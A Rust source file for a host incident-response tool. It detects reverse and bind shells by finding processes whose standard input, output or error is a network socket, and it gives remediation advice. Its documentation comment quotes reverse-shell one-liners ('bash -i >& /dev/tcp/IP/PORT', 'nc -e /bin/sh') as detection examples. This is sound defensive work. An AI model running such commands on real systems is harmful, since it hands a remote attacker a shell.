//! `process.socket_stdio` — a process whose standard input, output or error is a network socket.
//!
//! **What it looks at:** fds 0, 1 and 2 of every process, joined with the TCP/UDP socket tables
//! (`/proc/net/*` of its network namespace) by inode.
//!
//! **Why an attacker leaves this trace:** that is what a reverse or bind shell is: `bash -i >&
//! /dev/tcp/IP/PORT 0>&1`, `nc -e /bin/sh`, a socat exec. Daemons talk to sockets on higher fds;
//! shells and interpreters with a socket on stdio are the shell itself.
//!
//! **Example:** pid 5150 `bash -i` with fd 0, 1, 2 → TCP 10.0.0.5:43122 ↔ 203.0.113.7:4444.
//!
//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
//! medium for what needs a look, low and info for context; a weakness rather than an act is
//! marked `hardening` (docs/PRECISION.md).
//!
//! **ATT&CK:** T1059.004 (Unix Shell), T1071 (Application Layer Protocol).

use std::collections::HashMap;

use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct SocketOnStdio;

static INFO: CheckInfo = CheckInfo {
    id: "process.socket_stdio",
    title: "Shell or program with a network socket as its terminal (reverse shell)",
    title_zh: "标准输入输出连接到网络套接字的进程（反弹 shell）",
    mitre: &["T1059.004", "T1071"],
    remediation:
        "Isolate the host (huoyan contain), dump the process, note the remote address and \
                  block it, then kill the process and find what started it.",
    remediation_zh:
        "隔离主机（huoyan contain），转储进程，记录并封禁远端地址，然后结束进程并追查启动来源。",
};

/// Programs that legitimately run with a socket on stdio (inetd-style services, ssh sessions).
const SOCKET_ACTIVATED: &[&str] = &[
    "sshd", "systemd", "xinetd", "inetd", "in.tftpd", "rsync", "cupsd",
];

impl Check for SocketOnStdio {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }
    fn live_only(&self) -> bool {
        true
    }
    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let Some(scene) = super::scene(ctx, out) else {
            return;
        };
        let by_inode: HashMap<u64, &huoyan_artifacts::sockets::InetSocket> = scene
            .sockets
            .inet
            .iter()
            .map(|s| (s.socket.inode, &s.socket))
            .collect();
        let mut stdio: HashMap<u32, Vec<(String, u64)>> = HashMap::new();
        for f in &scene.open_files {
            if matches!(f.fd.as_str(), "0" | "1" | "2") {
                if let Some(inode) = f.target.socket_inode() {
                    if by_inode.contains_key(&inode) {
                        stdio.entry(f.pid).or_default().push((f.fd.clone(), inode));
                    }
                }
            }
        }
        for p in super::examined(ctx, scene) {
            let Some(fds) = stdio.get(&p.pid) else {
                continue;
            };
            if SOCKET_ACTIVATED.contains(&p.comm.as_str()) || p.pid == std::process::id() {
                continue;
            }
            let sock = by_inode[&fds[0].1];
            let remote = sock.remote_ip.to_string();
            let shell = super::is_interpreter(&p.comm);
            let severity = if shell {
                Severity::Critical
            } else {
                Severity::High
            };
            let mut finding = INFO
                .finding(
                    severity,
                    format!(
                        "pid {} ({}) has fd {} on {} socket {}:{} ↔ {}:{}",
                        p.pid,
                        p.command(),
                        fds.iter()
                            .map(|f| f.0.as_str())
                            .collect::<Vec<_>>()
                            .join(","),
                        sock.proto.file(),
                        sock.local_ip,
                        sock.local_port,
                        sock.remote_ip,
                        sock.remote_port
                    ),
                )
                .pid(p.pid)
                .user(p.user_label())
                .at(p.start_time)
                .evidence(json!({
                    "cmdline": p.cmdline, "ppid": p.ppid, "fds": fds,
                    "local": format!("{}:{}", sock.local_ip, sock.local_port),
                    "remote": format!("{}:{}", sock.remote_ip, sock.remote_port),
                    "state": sock.state,
                }));
            if !sock.remote_ip.is_unspecified() {
                finding = finding.ip(remote);
            }
            out.add(finding);
        }
    }
}
